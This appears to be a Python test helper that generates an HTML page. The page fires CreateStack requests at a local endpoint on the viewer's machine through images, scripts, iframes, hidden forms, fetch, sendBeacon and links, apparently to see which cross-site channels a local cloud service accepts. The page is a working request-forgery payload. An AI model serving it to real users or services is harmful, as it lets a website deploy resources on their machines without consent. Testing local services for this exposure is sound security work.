"""A page that tries, in every way that a page has, to send a call to an address on the machine of who looks at it."""

from __future__ import annotations

import json
from typing import Final
from urllib.parse import urlencode

# Each sends the call under a name of its own, so that one can see which got through.
WAYS: Final = ("img", "script", "frame", "form", "text-form", "fetch-get", "fetch-post", "beacon", "window", "link")

_PAGE: Final = """<!doctype html><meta name="referrer" content="no-referrer"><title>trying</title>
<body><iframe name="answers"></iframe><button id="open">Open</button><script>
const endpoint = ENDPOINT, calls = CALLS
const address = (way) => `${endpoint}/?${calls[way]}`
const added = (tag, attributes) => new Promise((settle) => {
  const element = Object.assign(document.createElement(tag), attributes)
  element.onload = element.onerror = settle
  document.body.append(element)
})
const submitted = (way, enctype) => new Promise((settle) => {
  const frame = document.createElement("iframe")
  frame.name = way
  document.body.append(frame)
  const form = document.createElement("form")
  Object.assign(form, {method: "POST", target: way, enctype, action: `${endpoint}/`})
  for (const [name, value] of new URLSearchParams(calls[way])) {
    form.append(Object.assign(document.createElement("input"), {type: "hidden", name, value}))
  }
  document.body.append(form)
  frame.onload = settle
  form.submit()
})
const form = {"Content-Type": "application/x-www-form-urlencoded"}
const link = Object.assign(document.createElement("a"), {id: "link", href: address("link"), textContent: "A link"})
document.body.append(link)
document.getElementById("open").onclick = () => window.open(address("window"))
Promise.allSettled([
  added("img", {src: address("img")}),
  added("script", {src: address("script")}),
  added("iframe", {src: address("frame")}),
  submitted("form", "application/x-www-form-urlencoded"),
  submitted("text-form", "text/plain"),
  fetch(address("fetch-get"), {mode: "no-cors"}),
  fetch(`${endpoint}/`, {method: "POST", mode: "no-cors", headers: form, body: calls["fetch-post"]}),
  Promise.resolve(navigator.sendBeacon(`${endpoint}/`, new URLSearchParams(calls["beacon"]))),
]).then(() => { document.title = "tried" })
</script>"""


def page(endpoint: str, template: str) -> str:
    """A page that tries to have the template deployed at `endpoint`."""
    calls = {
        way: urlencode({"Action": "CreateStack", "StackName": f"by-{way}", "TemplateBody": template}) for way in WAYS
    }
    return _PAGE.replace("ENDPOINT", json.dumps(endpoint), 1).replace("CALLS", json.dumps(calls), 1)
